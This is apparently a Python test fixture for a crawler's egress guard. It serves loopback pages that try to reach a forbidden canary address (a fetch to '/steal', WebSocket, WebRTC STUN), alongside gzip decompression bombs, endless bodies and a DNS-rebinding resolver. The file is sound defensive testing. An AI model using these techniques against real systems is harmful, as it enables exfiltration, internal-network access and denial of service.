"""A hostile little web for the browser's egress guard, and a canary that counts who reaches it.

The origin (127.0.0.1, port 0) serves pages that try to reach elsewhere: a WebSocket or a
``fetch()`` to the canary's address, bodies that never end, a gzip bomb, and a same-origin
WebSocket that answers (so the relay is shown to work when it may). The canary listens on
another loopback address (127.0.0.3) that the tests' policy does not allow: every TCP
connection it accepts is a connection the guard should have refused.
"""

from __future__ import annotations

import base64
import hashlib
import socket
import ssl
import threading
import zlib
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

CANARY_HOST = "127.0.0.3"
_WS_GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
SIXTY_MB = 60 * 1000 * 1000


class Canary:
    """A TCP listener that only counts the connections it accepts (and what they sent first)."""

    def __init__(self, host: str = CANARY_HOST) -> None:
        self._sock = socket.create_server((host, 0))
        self.port = self._sock.getsockname()[1]
        self.host = host
        self.connections: list[bytes] = []
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while True:
            try:
                conn, _ = self._sock.accept()
            except OSError:
                return
            conn.settimeout(1.0)
            try:
                first = conn.recv(200)
            except OSError:
                first = b""
            self.connections.append(first)
            conn.close()

    def close(self) -> None:
        self._sock.close()


_ANSWERS: dict[str, int] = {}


def rebinding_resolver(host: str, port: Any = 0, *args: Any) -> list[tuple[Any, ...]]:
    """A DNS server that lies: a public address the first time it is asked about a name,
    the canary's loopback address every time after (``XK_RESOLVER`` of the crawl tests)."""
    asked = _ANSWERS[host] = _ANSWERS.get(host, 0) + 1
    ip = "93.184.215.14" if asked == 1 else CANARY_HOST
    return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (ip, int(port or 0)))]


class UnguardedResolver:
    """``TWISTED_DNS_RESOLVER`` for the control test: resolves with the crawl's resolver but
    judges nothing, as a resolver without the guard would."""

    @classmethod
    def from_crawler(cls, crawler: Any, reactor: Any) -> Any:
        from crawler.config import CrawlConfig
        from crawler.fetch.guard import EgressPolicy
        from crawler.resolver import GuardedResolver

        resolver = CrawlConfig.from_settings(crawler.settings).resolver
        return GuardedResolver(reactor, EgressPolicy.build(allow_private=True, resolver=resolver,
                                                           allowed_ports=range(1, 65536)))


class UdpCanary:
    """A UDP socket that keeps every datagram it gets (STUN requests from WebRTC)."""

    def __init__(self, host: str = CANARY_HOST) -> None:
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._sock.bind((host, 0))
        self.port = self._sock.getsockname()[1]
        self.datagrams: list[bytes] = []
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self) -> None:
        while True:
            try:
                data, _ = self._sock.recvfrom(2048)
            except OSError:
                return
            self.datagrams.append(data)

    def close(self) -> None:
        self._sock.close()


@cache
def gzip_bomb(inflated: int = 512 * 1024 * 1024) -> bytes:
    """An HTML document of ``inflated`` bytes, gzip-compressed to about a thousandth of that
    (built piece by piece: the test process never holds the inflated document)."""
    compressor = zlib.compressobj(6, zlib.DEFLATED, 16 + zlib.MAX_WBITS)  # a gzip stream
    parts = [compressor.compress(b"<!doctype html><title>bomb</title><select name=country>")]
    chunk = b" " * (1024 * 1024)
    for _ in range(inflated // len(chunk)):
        parts.append(compressor.compress(chunk))
    parts.append(compressor.flush())
    return b"".join(parts)


@cache
def double_gzip_bomb(inflated: int = 256 * 1024 * 1024) -> bytes:
    """``inflated`` zero bytes gzipped twice: a few kilobytes that one read inflates in full
    unless every piece is counted as it comes out (sent as ``Content-Encoding: gzip, gzip``)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    chunk = b"\0" * (1024 * 1024)
    inner = b"".join([*(compressor.compress(chunk) for _ in range(inflated // len(chunk))),
                      compressor.flush()])
    outer = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    return outer.compress(inner) + outer.flush()


def _page(body: str, title: str = "egress") -> bytes:
    return (f"<!doctype html><html><head><meta charset=utf-8><title>{title}</title></head>"
            f"<body>{body}</body></html>").encode()


def _script_page(script: str) -> bytes:
    return _page("<p id=out>waiting</p><script>" + script + "</script>")


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: EgressWeb

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def _send(self, status: int, body: bytes, content_type: str = "text/html; charset=utf-8",
              headers: dict[str, str] | None = None) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        for key, value in (headers or {}).items():
            self.send_header(key, value)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        path, _, query = self.path.partition("?")
        params = dict(p.partition("=")[::2] for p in query.split("&") if p)
        canary = f"{CANARY_HOST}:{params.get('port', '1')}"
        if path == "/ws-canary":
            self._send(200, _script_page(
                f"const w = new WebSocket('ws://{canary}/'); "
                "w.onopen = () => { document.title = 'opened'; }; "
                "w.onerror = () => { document.title = 'refused'; };"))
        elif path == "/webrtc-canary":
            self._send(200, _script_page(
                f"const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{canary}'}}]}}); "
                "pc.createDataChannel('x'); "
                "pc.createOffer().then((o) => pc.setLocalDescription(o)); "
                "setTimeout(() => { document.title = 'gathered'; }, 1500);"))
        elif path == "/fetch-canary":
            self._send(200, _script_page(
                f"fetch('http://{canary}/steal').then(() => {{ document.title = 'fetched'; }})"
                ".catch(() => { document.title = 'refused'; });"))
        elif path == "/ws-echo":
            self._send(200, _script_page(
                "const scheme = location.protocol === 'https:' ? 'wss://' : 'ws://'; "
                "const w = new WebSocket(scheme + location.host + '/socket'); "
                "w.onmessage = (e) => { document.title = 'got ' + e.data; }; "
                "w.onerror = () => { document.title = 'refused'; };"))
        elif path == "/ws-upload":
            self._send(200, _script_page(
                "const w = new WebSocket('ws://' + location.host + '/socket'); "
                "w.onopen = () => { const big = 'x'.repeat(256 * 1024); "
                "for (let i = 0; i < 16; i++) w.send(big); document.title = 'sent'; };"))
        elif path == "/ws-deflate":
            self._send(200, _script_page(
                "const w = new WebSocket('ws://' + location.host + '/socket-deflate'); "
                "w.onmessage = (e) => { document.title = 'got ' + e.data; }; "
                "w.onerror = () => { document.title = 'refused'; };"))
        elif path == "/socket":
            self._websocket()
        elif path == "/socket-deflate":
            self._websocket({"Sec-WebSocket-Extensions": "permessage-deflate"})
        elif path == "/double-bomb":
            self._send(200, double_gzip_bomb(), "text/javascript",
                       headers={"Content-Encoding": "gzip, gzip"})
        elif path == "/gzip-x3":
            body = zlib.compress(b"<p>three codings</p>")
            self._send(200, body, headers={"Content-Encoding": "deflate, identity, gzip, gzip"})
        elif path == "/corrupt.js":
            from tests.static_fetch_server import corrupt_gzip

            self._send(200, corrupt_gzip(b"var x = 1;\n" * 5000), "text/javascript",
                       headers={"Content-Encoding": "gzip"})
        elif path == "/script-corrupt":
            self._send(200, _page("<label for=c>Country</label><select id=c name=country>"
                                  "<option>Kosovo</option><option>Albania</option></select>"
                                  "<script src=/corrupt.js></script>"))
        elif path == "/sixty":
            self._stream(SIXTY_MB, length=True)
        elif path == "/endless":
            self._stream(None, length=False)
        elif path == "/bomb":
            self._send(200, gzip_bomb(), headers={"Content-Encoding": "gzip"})
        elif path == "/bomb.js":
            self._send(200, gzip_bomb(), "text/javascript", headers={"Content-Encoding": "gzip"})
        elif path == "/script-bomb":
            self._send(200, _page("<label for=c>Country</label><select id=c name=country>"
                                  "<option>Kosovo</option><option>Albania</option></select>"
                                  "<script src=/bomb.js></script>"))
        elif path == "/form":
            self._send(200, _page("<label for=c>Country</label><select id=c name=country>"
                                  "<option>Kosovo</option><option>Albania</option></select>"))
        else:
            self._send(404, _page("not here"))

    def _stream(self, total: int | None, *, length: bool) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        if length and total is not None:
            self.send_header("Content-Length", str(total))
        else:
            self.send_header("Connection", "close")
        self.end_headers()
        block = b"<p>" + b"x" * (64 * 1024 - 7) + b"</p>\n"
        sent = 0
        try:
            while total is None or sent < total:
                self.wfile.write(block)
                sent += len(block)
                self.server.streamed += len(block)
        except OSError:
            pass  # the reader hung up: that is the cap working
        self.close_connection = True

    def _websocket(self, extra: dict[str, str] | None = None) -> None:
        self.server.websocket_requests.append(dict(self.headers.items()))
        key = self.headers.get("Sec-WebSocket-Key", "")
        accept = base64.b64encode(hashlib.sha1((key + _WS_GUID).encode()).digest()).decode()
        self.send_response(101)
        self.send_header("Upgrade", "websocket")
        self.send_header("Connection", "Upgrade")
        self.send_header("Sec-WebSocket-Accept", accept)
        for name, value in (extra or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(b"\x81\x05hello")  # one unmasked text frame
        self.wfile.flush()
        self.close_connection = True
        try:
            self.connection.settimeout(2.0)
            while self.connection.recv(64 * 1024):  # all the browser sends, till it stops
                pass
        except OSError:
            pass


def self_signed(host: str, folder: Path) -> Path:
    """A certificate and key for ``host`` signed by themselves, in one PEM file."""
    import datetime as dt

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, host)])
    now = dt.datetime.now(dt.UTC)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
            .public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(now - dt.timedelta(hours=1))
            .not_valid_after(now + dt.timedelta(days=1))
            .add_extension(x509.SubjectAlternativeName([x509.DNSName(host)]), critical=False)
            .sign(key, hashes.SHA256()))
    path = folder / f"{host}.pem"
    path.write_bytes(cert.public_bytes(serialization.Encoding.PEM) + key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption()))
    return path


class EgressWeb(ThreadingHTTPServer):
    """The origin; with ``tls`` (a PEM file of certificate and key) it speaks HTTPS only."""

    daemon_threads = True
    streamed = 0

    def __init__(self, tls: Path | None = None) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.websocket_requests: list[dict[str, str]] = []  # the heads of WebSocket requests
        self.port = self.server_address[1]
        self.scheme = "http"
        if tls is not None:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(tls)
            self.socket = context.wrap_socket(self.socket, server_side=True)
            self.scheme = "https"
        self._thread = threading.Thread(target=self.serve_forever, daemon=True)
        self._thread.start()

    def url(self, path: str, host: str = "127.0.0.1") -> str:
        return f"{self.scheme}://{host}:{self.port}{path}"

    def close(self) -> None:
        self.shutdown()
        self.server_close()
